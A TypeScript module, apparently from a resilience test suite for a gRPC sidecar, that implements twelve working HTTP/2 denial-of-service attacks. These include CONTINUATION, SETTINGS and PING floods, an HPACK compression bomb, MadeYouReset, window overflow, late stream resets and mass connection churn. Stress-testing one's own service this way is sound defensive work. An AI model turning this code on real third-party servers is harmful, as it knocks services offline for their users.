/** What is said over HTTP/2 that no client says. */
import { connect as connectSocket, type Socket } from 'node:net';
import { setTimeout as passed } from 'node:timers/promises';
import { callHeaders, data, frame, openConnection, reset } from '../../test/attacks/frames.ts';
import { prefix } from '../../test/attacks/wire.ts';
import { type Attack, HEALTH, LASTS_MS, PROVIDER, write } from './attack.ts';

const TYPE = {
  headers: 1,
  priority: 2,
  settings: 4,
  ping: 6,
  windowUpdate: 8,
  continuation: 9,
} as const;
const END_HEADERS = 4;
const ACK = 1;

/** As many of these as fit 64 KiB, written for ever. */
function repeated(one: Buffer): Buffer {
  return Buffer.concat(Array.from({ length: Math.ceil(65_536 / one.length) }, () => one));
}

/** Says the same over and over, over a new connection where one is closed. It never reads. */
function forEver(
  connections: number,
  bytes: Buffer,
  opening: Buffer = Buffer.alloc(0),
): Attack['run'] {
  return async (address) => {
    const until = performance.now() + LASTS_MS;
    const open = () => {
      const socket = openConnection(address);
      socket.pause();
      socket.write(opening);
      return socket;
    };
    const one = async () => {
      let socket = open();
      while (performance.now() < until) {
        if (socket.destroyed || socket.closed) socket = open();
        await Promise.race([write(socket, bytes), passed(100)]);
      }
      socket.destroy();
    };
    await Promise.all(Array.from({ length: connections }, one));
  };
}

const CALL = `${PROVIDER}/CountTokens`;

/** A header of HPACK without its place in a table: 1 KB of value. */
const header = Buffer.concat([
  Buffer.from([0x00, 1]),
  Buffer.from('x'),
  Buffer.from([0x7f, 0xe1, 0x06]),
  Buffer.alloc(992, 'v'),
]);

/** Puts 4 KB into the table of HPACK, and then names it again with a byte each time. */
function hpackBomb(stream: number): Buffer {
  const value = Buffer.alloc(4_000, 'v');
  const into = Buffer.concat([
    Buffer.from([0x40, 1]),
    Buffer.from('b'),
    Buffer.from([0x7f, 0xa1, 0x1e]),
    value,
  ]);
  return frame(
    TYPE.headers,
    END_HEADERS,
    stream,
    Buffer.concat([into, Buffer.alloc(12_000, 0xbe)]),
  );
}

function streams(make: (stream: number) => readonly Buffer[], perWrite: number) {
  return (connections: number): Attack['run'] =>
    async (address) => {
      const until = performance.now() + LASTS_MS;
      const one = async () => {
        let [socket, stream] = [openConnection(address), 1];
        while (performance.now() < until) {
          if (socket.destroyed || socket.closed) [socket, stream] = [openConnection(address), 1];
          const calls = Array.from({ length: perWrite }, () => {
            const call = Buffer.concat(make(stream));
            stream += 2;
            return call;
          });
          await Promise.race([write(socket, Buffer.concat(calls)), passed(100)]);
        }
        socket.destroy();
      };
      await Promise.all(Array.from({ length: connections }, one));
    };
}

const word = (value: number) => {
  const bytes = Buffer.alloc(4);
  bytes.writeUInt32BE(value >>> 0);
  return bytes;
};

/** The sidecar resets them itself: by a window that does not grow, or data behind the end. */
const madeYouReset = (stream: number) => [
  callHeaders(stream, CALL),
  data(stream, prefix(0, 0), true),
  stream % 4 === 1
    ? frame(TYPE.windowUpdate, 0, stream, word(0))
    : data(stream, Buffer.alloc(1), true),
];

const windowOverflow = (stream: number) => [
  callHeaders(stream, CALL),
  frame(TYPE.windowUpdate, 0, stream, word(0x7fffffff)),
];

/** A call that has ended is reset. */
const resetLate = (stream: number) => [
  callHeaders(stream, `${HEALTH}/Check`),
  data(stream, prefix(0, 0), true),
  reset(stream),
];

function churn(until: number): Attack['run'] {
  return async (address) => {
    const [host = '', port = ''] = address.split(':');
    const end = performance.now() + LASTS_MS;
    const sockets = new Set<Socket>();
    for (let opened = 0; opened < until && performance.now() < end; opened += 1) {
      const socket = connectSocket(Number(port), host);
      sockets.add(socket);
      socket.on('error', () => {});
      socket.on('close', () => sockets.delete(socket));
      socket.once('connect', () => socket.destroy());
      if (sockets.size > 200) await passed(1);
    }
    for (const socket of sockets) socket.destroy();
  };
}

export const HTTP2_ATTACKS: readonly Attack[] = [
  {
    name: 'CONTINUATION without end, over 4 connections',
    run: forEver(
      4,
      repeated(frame(TYPE.continuation, 0, 1, header)),
      frame(TYPE.headers, 0, 1, header),
    ),
  },
  {
    name: 'SETTINGS without end, answers unread',
    run: forEver(4, repeated(frame(TYPE.settings, 0, 0, Buffer.from([0, 4, 0, 0, 0xff, 0xff])))),
  },
  {
    name: 'PING without end, answers unread',
    run: forEver(4, repeated(frame(TYPE.ping, 0, 0, Buffer.alloc(8)))),
  },
  {
    name: 'answers to no PING',
    run: forEver(4, repeated(frame(TYPE.ping, ACK, 0, Buffer.alloc(8)))),
  },
  {
    name: 'PRIORITY of 1,000 streams without end',
    run: forEver(
      4,
      Buffer.concat(
        Array.from({ length: 1_000 }, (_, at) =>
          frame(
            TYPE.priority,
            0,
            2 * at + 1,
            Buffer.concat([word(2 * at + 3), Buffer.from([255])]),
          ),
        ),
      ),
    ),
  },
  {
    name: 'windows that grow by one byte without end',
    run: forEver(4, repeated(frame(TYPE.windowUpdate, 0, 0, word(1)))),
  },
  {
    name: 'frames without data without end',
    run: forEver(4, repeated(data(1, Buffer.alloc(0))), callHeaders(1, CALL)),
  },
  {
    name: 'headers that 12 KB say and 48 MB are',
    run: streams((stream) => [hpackBomb(stream)], 20)(4),
  },
  {
    name: 'resets that the sidecar is made to send (MadeYouReset)',
    run: streams(madeYouReset, 200)(4),
  },
  { name: 'windows that overflow', run: streams(windowOverflow, 200)(4) },
  { name: 'calls that are reset when they have been said', run: streams(resetLate, 200)(4) },
  { name: '50,000 connections that close at once', run: churn(50_000) },
];
